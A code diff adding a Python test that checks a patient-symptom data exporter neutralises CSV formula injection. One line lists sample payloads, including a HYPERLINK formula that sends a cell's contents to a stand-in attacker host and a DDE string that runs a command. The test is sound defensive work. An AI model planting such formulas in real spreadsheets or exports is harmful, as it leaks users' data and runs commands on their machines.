@@ -341,3 +341,31 @@ def test_the_influxdb2_task_writes_what_the_continuous_queries_write() -> None:
         group = ", ".join(['"_measurement"', '"_field"', *tags.split(", ")])
         assert f"group(columns: [{group}])" in flux
     assert 'r.flag == "ok" or r.flag == "gap"' in flux
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "@SUM(1)")
+
+
+async def test_a_csv_export_never_hands_a_spreadsheet_a_formula(
+    influx_db: InfluxDatabase, tmp_path: Path
+) -> None:
+    """A symptom note is what a patient typed and ``by`` what a caregiver's app sent: text
+    that starts with ``=``, ``+``, ``-`` or ``@`` is a formula to the spreadsheet a
+    researcher opens the CSV in (CWE-1236). The CSV quotes it (a leading ``'``); Parquet and
+    JSON Lines, read by programs, keep it as it was."""
+    async with make_sink(influx_db, tmp_path) as sink:
+        for n, note in enumerate(FORMULAS):
+            sink.submit_record(
+                SymptomReport(
+                    patient="p-001", time=T0 + n, session="s1", core_delta_c=0.4, note=note
+                )
+            )
+        assert await sink.drain(timeout_s=20)
+    for fmt in ("csv", "jsonl"):
+        assert run_cli(*export_args(influx_db, tmp_path / fmt, fmt)) == 0
+    cells = pd.read_csv(tmp_path / "csv" / "p-001_symptoms.csv", dtype=str)["note"].tolist()
+    assert cells == ["'" + note for note in FORMULAS]
+    kept = read_back(tmp_path / "jsonl" / "p-001_symptoms.jsonl", "jsonl")["note"].tolist()
+    assert kept == list(FORMULAS)
+    numbers = pd.read_csv(tmp_path / "csv" / "p-001_symptoms.csv")["core_delta_c"].tolist()
+    assert numbers == [0.4] * 3, "numbers are not quoted"
